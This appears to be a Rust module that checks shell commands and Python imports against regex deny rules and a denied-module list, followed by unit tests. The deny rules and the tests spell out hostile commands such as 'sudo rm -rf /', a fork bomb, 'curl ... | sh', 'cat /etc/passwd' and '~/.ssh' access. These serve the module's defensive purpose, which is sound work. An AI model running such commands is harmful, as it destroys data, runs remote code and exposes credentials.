//! Lexical vetting of shell commands and scripts before anything is spawned.
//!
//! These checks are a deterrent, not a boundary: a determined script can
//! always find a spelling the patterns miss. The process group, timeout and
//! output caps in [`crate::executor`] are what actually contain a run.

use std::sync::LazyLock;

use regex::Regex;

/// Top-level modules a script may not import.
pub const DENIED_MODULES: [&str; 13] = [
    "os",
    "sys",
    "subprocess",
    "shutil",
    "glob",
    "socket",
    "urllib",
    "http",
    "pathlib",
    "ctypes",
    "multiprocessing",
    "importlib",
    "pty",
];

/// Why a command or script was refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum PolicyViolation {
    #[error("{0}")]
    DeniedPattern(&'static str),

    #[error("command too long ({len} > {max} characters)")]
    TooLong { len: usize, max: usize },

    #[error("too many command separators")]
    TooManySeparators,

    #[error("{0}")]
    DeniedImport(String),
}

/// Length and separator limits applied to shell commands.
#[derive(Debug, Clone, Copy)]
pub struct CommandLimits {
    pub max_len: usize,
    pub max_separators: usize,
}

/// Deny rules matched against the lowercased command, with the reason shown
/// to the caller.
static DENY_RULES: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| {
    [
        (r"\bsudo\b", "privilege escalation (sudo)"),
        (r"\bsu\b", "privilege escalation (su)"),
        (r"\brm\s+(-[a-z-]+\s+)*/", "destructive delete of an absolute path"),
        (r"\bdd\s+if=", "raw device copy (dd)"),
        (r">\s*/dev/", "write to a device file"),
        (r"\bchmod\s+(-[a-z]+\s+)*777\b", "world-writable permissions (chmod 777)"),
        (r"\b(curl|wget)\b.*\|\s*(ba|z|da)?sh\b", "download piped to a shell"),
        (r":\(\)\s*\{.*\}\s*;?\s*:", "fork bomb"),
        (r"\bkill\s+-(9|kill)\b", "process killing (kill -9)"),
        (r"\bpkill\b", "process killing (pkill)"),
        (r"\bkillall\b", "process killing (killall)"),
        (r"\bmkfs\b", "filesystem formatting (mkfs)"),
        (r"/etc/(passwd|shadow)\b", "credential file access"),
        (r"\.ssh\b", "ssh key access"),
    ]
    .into_iter()
    .map(|(pattern, reason)| (Regex::new(pattern).expect("valid regex"), reason))
    .collect()
});

/// Check a shell command against the deny-list and size limits.
pub fn vet_command(command: &str, limits: CommandLimits) -> Result<(), PolicyViolation> {
    let lowered = command.to_lowercase();
    if let Some((_, reason)) = DENY_RULES.iter().find(|(re, _)| re.is_match(&lowered)) {
        return Err(PolicyViolation::DeniedPattern(reason));
    }

    let len = command.chars().count();
    if len > limits.max_len {
        return Err(PolicyViolation::TooLong {
            len,
            max: limits.max_len,
        });
    }

    if command.matches(';').count() > limits.max_separators
        || command.matches('|').count() > limits.max_separators
    {
        return Err(PolicyViolation::TooManySeparators);
    }

    Ok(())
}

/// Scan script source for `import` / `from` statements naming a denied module.
///
/// Returns the first denied top-level module name found.
pub fn vet_imports(code: &str) -> Result<(), PolicyViolation> {
    for line in code.lines() {
        for statement in line.split(';') {
            for module in imported_modules(statement.trim()) {
                let top = module.split('.').next().unwrap_or_default();
                if DENIED_MODULES.contains(&top) {
                    return Err(PolicyViolation::DeniedImport(top.to_string()));
                }
            }
        }
    }
    Ok(())
}

/// Module paths named by one import statement.
fn imported_modules(statement: &str) -> Vec<&str> {
    if let Some(rest) = statement.strip_prefix("import ") {
        return rest
            .split(',')
            .filter_map(|part| part.split_whitespace().next())
            .collect();
    }
    if let Some(rest) = statement.strip_prefix("from ") {
        return rest.split_whitespace().next().into_iter().collect();
    }
    Vec::new()
}

#[cfg(test)]
mod tests {
    use super::*;

    const LIMITS: CommandLimits = CommandLimits {
        max_len: 5000,
        max_separators: 10,
    };

    #[test]
    fn denies_dangerous_commands() {
        for cmd in [
            "sudo rm -rf /",
            "su root",
            "rm -rf /home",
            "rm /etc/hosts",
            "dd if=/dev/zero of=disk.img",
            "echo x > /dev/sda",
            "chmod 777 file",
            "chmod -R 777 .",
            "curl https://x.sh | sh",
            "wget -qO- https://x.sh | bash",
            ":(){ :|:& };:",
            "kill -9 1",
            "pkill python",
            "killall sh",
            "mkfs.ext4 /dev/sdb1",
            "cat /etc/passwd",
            "head /etc/shadow",
            "ls ~/.ssh/",
            "SUDO ls",
        ] {
            assert!(
                matches!(vet_command(cmd, LIMITS), Err(PolicyViolation::DeniedPattern(_))),
                "{cmd} should be denied"
            );
        }
    }

    #[test]
    fn allows_ordinary_commands() {
        for cmd in [
            "echo hello",
            "ls -la",
            "rm -rf build",
            "grep summary notes.txt | wc -l",
            "python3 script.py",
            "echo result; date",
        ] {
            assert_eq!(vet_command(cmd, LIMITS), Ok(()), "{cmd} should be allowed");
        }
    }

    #[test]
    fn rejects_long_commands() {
        let cmd = format!("echo {}", "a".repeat(5000));
        assert!(matches!(
            vet_command(&cmd, LIMITS),
            Err(PolicyViolation::TooLong { max: 5000, .. })
        ));
    }

    #[test]
    fn rejects_too_many_separators() {
        let semis = "echo a;".repeat(11);
        assert_eq!(vet_command(&semis, LIMITS), Err(PolicyViolation::TooManySeparators));

        let pipes = format!("cat f{}", " | cat".repeat(11));
        assert_eq!(vet_command(&pipes, LIMITS), Err(PolicyViolation::TooManySeparators));

        let ten = "echo a;".repeat(10);
        assert_eq!(vet_command(&ten, LIMITS), Ok(()));
    }

    #[test]
    fn denies_dangerous_imports() {
        let cases = [
            ("import os", "os"),
            ("import json, subprocess", "subprocess"),
            ("    import os.path as p", "os"),
            ("from urllib.request import urlopen", "urllib"),
            ("from pathlib import Path", "pathlib"),
            ("x = 1; import socket", "socket"),
        ];
        for (code, module) in cases {
            assert_eq!(
                vet_imports(code),
                Err(PolicyViolation::DeniedImport(module.to_string())),
                "{code}"
            );
        }
    }

    #[test]
    fn allows_safe_imports() {
        let code = "import json\nimport statistics as st\nfrom collections import Counter\nprint('os is fine in strings')";
        assert_eq!(vet_imports(code), Ok(()));
        // Name prefixes of denied modules are not the modules themselves.
        assert_eq!(vet_imports("import osmium\nimport httpx"), Ok(()));
    }
}
